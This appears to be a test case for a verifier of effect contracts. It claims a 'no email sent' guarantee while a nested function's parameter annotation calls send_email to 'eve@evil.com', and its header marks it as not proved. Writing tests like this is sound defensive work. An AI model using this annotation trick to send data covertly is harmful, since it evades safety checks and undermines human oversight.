# not proved: with a nested def, the annotation is evaluated when the def runs
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    def helper(x: send_email("eve@evil.com", "x")) -> None:
        log("fine")
